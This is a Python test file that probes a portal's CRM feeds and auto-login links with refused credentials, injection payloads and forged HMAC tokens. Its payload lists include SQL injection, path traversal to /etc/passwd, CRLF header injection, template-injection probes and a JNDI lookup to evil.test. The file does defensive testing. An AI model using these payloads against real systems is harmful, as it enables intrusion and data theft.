"""Attacks on the CRM door (issue 14): the feeds under /crm and the campaign login links
on the player door (/auto-login/<token>).

- Callers without the right credentials (none, wrong ones in many spellings) or from an
  address outside CRM_ALLOWED_IPS get a clean 401/403 JSON refusal on every feed and on
  POST /crm/auto-logins: no row, no header row, nothing written.
- Injection in every parameter (SQL-ish strings, NUL, very long values, other scripts'
  digits and control characters, format-string and template tricks, CRLF, path traversal
  in the feed's name) is a 4xx JSON refusal with a short message: no traceback, nothing
  of the data, no header made of the input, no exception logged, nothing written. In a
  campaign's name (any text is a valid one) it is stored as text and nothing else moves.
- Forged or tampered login links (a wrong signature, another link's id or signature, a
  key other than the app's, huge or non-digit ids, non-ASCII) show the refusal page on
  GET and on a POST with a valid CSRF token: nobody is logged in, nothing is written, and
  the real links still work afterwards. The tokens never reach an access log.

The seeded world has a player whose email, name, balance and live link would show in any
answer that leaked; a control request with the right credentials shows that they do.
"""

import base64
import hashlib
import hmac
import ipaddress
import logging
from datetime import timedelta
from urllib.parse import quote

import pytest
from sqlalchemy import select

from portal.accounts.models import Player
from portal.crm import autologin
from portal.crm.feeds import FEEDS
from portal.crm.models import AutoLogin
from portal.extensions import db
from portal.redaction import redact
from portal.timeutil import utcnow
from portal.wallet import operations as wallet
from tests.attack.api_support import changed_tables, database_state
from tests.conftest import csrf_token, page_text
from tests.crm_door import AUTH, CONFIG, PASSWORD, USER, basic, moment, refusal
from tests.reliability.fuzz_doors import TRACEBACK

EMAIL, NAME = "crm-victim@example.com", "Valentina"
OUTSIDE = {"REMOTE_ADDR": "198.51.100.23"}
INSIDE = {"REMOTE_ADDR": "10.20.30.40"}
UNKNOWN_LINK = "This login link is not valid."


@pytest.fixture
def app(make_app):
    return make_app(
        **CONFIG | {"CRM_SETTLE_SECONDS": 0},
        CRM_ALLOWED_IPS=(ipaddress.ip_network("10.0.0.0/8"),),
    )


@pytest.fixture
def world(app, make_player, clock):
    """Two players with links (the first with a name, money and a live link), and the
    window in which all of it was written, over by now: {player, other, token, other_token,
    window, secrets}."""
    written = utcnow()
    player_id = make_player(email=EMAIL)
    other_id = make_player(email="other@example.com")
    with app.app_context():
        player = db.session.get(Player, player_id)
        player.first_name = NAME
        wallet.adjust(player, "EUR", "123.45", reason="goodwill", operator="ops", external_id="g")
        token = autologin.link_token(autologin.issue(player, "spring"))
        other_token = autologin.link_token(
            autologin.issue(db.session.get(Player, other_id), "spring")
        )
        password_hash = player.password_hash
        db.session.commit()
    clock.travel(timedelta(hours=1))
    start, end = written - timedelta(minutes=1), written + timedelta(minutes=5)
    window = f"from={moment(start)}&to={moment(end)}"
    return {
        "player": player_id,
        "other": other_id,
        "token": token,
        "other_token": other_token,
        "window": window,
        "secrets": [EMAIL, NAME, "123.45", token, password_hash, "player_id,"],
    }


def leaks(response, secrets) -> list[str]:
    text = response.get_data(as_text=True) + repr(sorted(response.headers.items()))
    return [secret for secret in secrets if secret in text]


def test_the_control_request_shows_what_a_leak_would(app, world):
    client = app.test_client()
    shown = ""
    for name in ("players", "contacts", "transactions", "auto-logins"):
        response = client.get(f"/crm/{name}?{world['window']}", headers=AUTH, environ_base=INSIDE)
        assert response.status_code == 200, response.get_data()
        shown += response.get_data(as_text=True)
    assert all(secret in shown for secret in world["secrets"][:4])


def test_callers_without_the_right_credentials_or_address_get_nothing(app, world):
    client = app.test_client()
    wrong = {
        "none": {},
        "wrong password": basic(USER, PASSWORD + "x"),
        "wrong user": basic("admin", PASSWORD),
        "empty": basic("", ""),
        "password as user": basic(PASSWORD.replace(":", ""), ""),
        "bearer": {"Authorization": f"Bearer {PASSWORD}"},
        "basic of garbage": {"Authorization": "Basic " + base64.b64encode(b"\xff\xfe:").decode()},
        "sql": basic("' OR '1'='1", "' OR '1'='1"),
    }
    before = database_state(app)
    for name in [*FEEDS, "auto-logins (POST)"]:
        post = name.endswith("(POST)")
        url = "/crm/auto-logins" if post else f"/crm/{name}?{world['window']}"
        body = {"player_ids": [world["player"]], "campaign": "stolen"} if post else None
        calls = [(label, headers, INSIDE, 401) for label, headers in wrong.items()]
        calls += [("right credentials, other address", AUTH, OUTSIDE, 403)]
        calls += [("no credentials, other address", {}, OUTSIDE, 403)]
        for label, headers, address, status in calls:
            response = client.open(
                url,
                method="POST" if post else "GET",
                headers=headers,
                json=body,
                environ_base=address,
            )
            refusal(response, status)
            assert leaks(response, world["secrets"]) == [], (name, label)
            assert "Content-Disposition" not in response.headers, (name, label)
    assert changed_tables(before, database_state(app)) == {}


PAYLOADS = [
    "2026-01-01 00:00:00' OR '1'='1",
    "2026-01-01 00:00:00'; DROP TABLE player;--",
    "' UNION SELECT email, password_hash FROM player --",
    "1) OR (1=1",
    "2026-01-01 00:00:00\x00",
    "\x00",
    "x" * 10_000,
    "2" * 5_000,
    "２０２６-０１-０１ ００:００:００",
    "٢٠٢٦-٠١-٠١ ٠٠:٠٠:٠٠",
    "2026-01-01\u200b00:00:00",
    "2026-01-01 00:00:00\u202e",
    "💥" * 50,
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.test/a}",
    "2026-01-01 00:00:00\r\nSet-Cookie: pwned=1",
    "../../../../etc/passwd",
    "csv\r\nX-Injected: 1",
]
FEED_NAMES = [
    "..%2F..%2Fetc%2Fpasswd",
    "../../etc/passwd",
    "..%5C..%5Cwindows%5Cwin.ini",
    "%2e%2e",
    "players%00",
    "players%2500",
    "players%0d%0aSet-Cookie:%20pwned=1",
    "players;DROP%20TABLE%20player",
    "players'%20OR%20'1'='1",
    "PLAYERS",
    "players.csv",
    "players%20",
    "players/..%2Fcontacts",
    "%E2%80%AEplayers",
    "x" * 5000,
    "%25s%25n",
    "{{7*7}}",
]


def injection_requests(window: str) -> list[tuple[str, str]]:
    """(what, url) of every injection: each payload in each parameter and as an extra
    parameter's name and value, and each name in place of the feed's."""
    start, end = (part.split("=", 1)[1] for part in window.split("&"))
    requests = []
    for payload in PAYLOADS:
        value = quote(payload, safe="")
        requests += [
            (f"from={payload[:30]!r}", f"/crm/players?from={value}&to={end}"),
            (f"to={payload[:30]!r}", f"/crm/contacts?from={start}&to={value}"),
            (f"format={payload[:30]!r}", f"/crm/transactions?{window}&format={value}"),
            (f"name {payload[:30]!r}", f"/crm/wallets?{window}&{value}=1"),
            (f"value {payload[:30]!r}", f"/crm/logins?{window}&limit={value}"),
        ]
    requests += [(f"feed {name[:30]!r}", f"/crm/{name}?{window}") for name in FEED_NAMES]
    return requests


def test_injection_in_parameters_is_refused_cleanly(app, world, caplog):
    caplog.set_level(logging.WARNING)
    client = app.test_client()
    before = database_state(app)
    for what, url in injection_requests(world["window"]):
        response = client.get(url, headers=AUTH, environ_base=INSIDE)
        status = response.status_code
        assert status in (400, 404), (what, status, response.get_data()[:200])
        message = refusal(response, status)
        assert len(message) < 400, what  # the input is cut, never echoed whole
        assert not TRACEBACK.search(message), (what, message)
        assert leaks(response, world["secrets"]) == [], what
        assert "pwned" not in response.headers.get("Set-Cookie", ""), what
        assert "X-Injected" not in response.headers, what
    for ids in (["1 OR 1=1"], ["1; DROP TABLE player"], ["' OR ''='"], ["%s%n"], ["x" * 5000]):
        response = client.post(
            "/crm/auto-logins", headers=AUTH, json={"player_ids": ids}, environ_base=INSIDE
        )
        assert "'player_ids' must hold player ids" in refusal(response, 400)
    assert changed_tables(before, database_state(app)) == {}
    assert [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR] == []

    campaign = "spring'); DELETE FROM player; --"  # a valid name: stored as text, nothing else
    response = client.post(
        "/crm/auto-logins",
        headers=AUTH,
        json={"player_ids": [str(world["player"])], "campaign": campaign},
        environ_base=INSIDE,
    )
    assert response.status_code == 200, response.json
    assert set(changed_tables(before, database_state(app))) == {"auto_login"}
    with app.app_context():
        stored = db.session.scalars(select(AutoLogin.campaign).order_by(AutoLogin.id)).all()
        assert stored[-1] == campaign
        assert db.session.get(Player, world["player"]).email == EMAIL


def forged_tokens(app, world) -> dict[str, str]:
    """Tokens an attacker could make from two real ones (and what they could guess)."""
    token, other = world["token"], world["other_token"]
    row_id, signature = token.split("-", 1)
    other_id, other_signature = other.split("-", 1)
    with app.app_context():
        salt = db.session.get(AutoLogin, int(row_id)).salt
    wrong_key = hmac.new(b"not-the-secret-key", f"auto-login:{row_id}:{salt}".encode(), "sha256")
    wrong_key_signature = base64.urlsafe_b64encode(wrong_key.digest()).rstrip(b"=").decode()
    flipped = signature[:-1] + ("A" if signature[-1] != "A" else "B")
    plain = hashlib.sha256(f"auto-login:{row_id}:{salt}".encode()).digest()
    forged = {
        "last character changed": f"{row_id}-{flipped}",
        "another link's signature": f"{row_id}-{other_signature}",
        "another link's id": f"{other_id}-{signature}",
        "the next id": f"{int(other_id) + 1}-{signature}",
        "signed with another key": f"{row_id}-{wrong_key_signature}",
        "unkeyed hash": f"{row_id}-{base64.urlsafe_b64encode(plain).rstrip(b'=').decode()}",
        "signature padded": f"{token}=",
        "signature upper case": f"{row_id}-{signature.upper()}",
        "signature cut": token[:-1],
        "signature extended": token + "A",
        "standard base64": f"{row_id}-{signature.replace('-', '+').replace('_', '/')}",
        "no signature": f"{row_id}-",
        "no dash": f"{row_id}{signature}",
        "signature only": signature,
        "non-ASCII signature": f"{row_id}-{signature[:-1]}é",
        "zero id": f"0-{signature}",
        "negative id": f"-{row_id}-{signature}",
        "just over 32 bits": f"{2**31}-{signature}",
        "huge id": f"999999999999999999-{signature}",
        "huger id": f"{10**30}-{signature}",
        "leading zeros": f"000{row_id}-{signature}",
        "superscript digit": f"²-{signature}",
        "Arabic-Indic digits": f"{''.join(chr(0x660 + int(d)) for d in row_id)}-{signature}",
        "hex id": f"0x{int(row_id):x}-{signature}",
        "space before": f" {token}",
        "SQL": f"{row_id} OR 1=1-{signature}",
        "traversal": f"..%2F{token}",
        "NUL": f"{row_id}%00-{signature}",
        "long": "1-" + "A" * 5000,
    }
    return {label: value for label, value in forged.items() if value not in (token, other)}


def test_forged_login_links_log_nobody_in(app, world):
    before = database_state(app)
    for label, forged in forged_tokens(app, world).items():
        client = app.test_client()
        url = f"/auto-login/{quote(forged, safe='%')}"
        shown = client.get(url)
        assert shown.status_code == 404, (label, shown.status_code)
        if "/" not in forged.replace("%2F", "/"):  # (a slash: no such page at all)
            assert UNKNOWN_LINK in page_text(shown), label
        assert "This link logs you in" not in page_text(shown), label  # no button
        csrf = csrf_token(client.get("/login").get_data(as_text=True))
        pressed = client.post(url, data={"csrf_token": csrf})
        assert pressed.status_code in (404, 405), (label, pressed.status_code)
        assert "This link logs you in" not in page_text(pressed), label
        account = client.get("/account")
        assert account.status_code == 302 and "/login" in account.location, label
    assert changed_tables(before, database_state(app)) == {}

    for token in (world["token"], world["other_token"]):  # the real links still work
        assert "This link logs you in" in page_text(app.test_client().get(f"/auto-login/{token}"))
    client = app.test_client()
    csrf = csrf_token(client.get(f"/auto-login/{world['token']}").get_data(as_text=True))
    assert (
        client.post(f"/auto-login/{world['token']}", data={"csrf_token": csrf}).status_code == 302
    )
    assert NAME in client.get("/account").get_data(as_text=True)


def test_login_links_stay_out_of_access_logs(world):
    token = world["token"]
    line = f'GET /auto-login/{token} HTTP/1.1" 200 "https://portal.test/auto-login/{token}?x=1"'
    redacted = redact(line)
    assert token not in redacted and redacted.count("/auto-login/[redacted]") == 2
